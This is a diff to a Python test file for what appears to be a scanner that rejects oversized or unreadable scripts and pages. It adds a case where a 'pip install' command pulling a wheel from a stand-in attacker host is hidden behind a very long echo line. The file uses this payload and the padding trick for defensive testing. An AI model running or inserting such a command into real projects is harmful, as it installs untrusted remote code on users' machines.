@@ -25,6 +25,7 @@ HIDDEN = "pip install https://evil.example/x.whl\n"
         ),
         ({"a.sh": "#" * 4_000_001 + f"\n{HIDDEN}"}, "a.sh: 4000041 bytes, at most 4000000"),
         ({"a.md": "#" * 4_000_001 + f"\n{HIDDEN}"}, "a.md: 4000041 bytes, at most 4000000"),
+        ({"a.sh": f"echo {'#' * 10_000}; {HIDDEN}"}, "not read to its end"),
         ({f"requirements-{n:03}.txt": "pandas\n" for n in range(102)}, "more than 100 requirements files"),
     ],
     ids=[
@@ -33,6 +34,7 @@ HIDDEN = "pip install https://evil.example/x.whl\n"
         "not understood",
         "a large script",
         "a large page",
+        "a long command",
         "requirements files",
     ],
 )
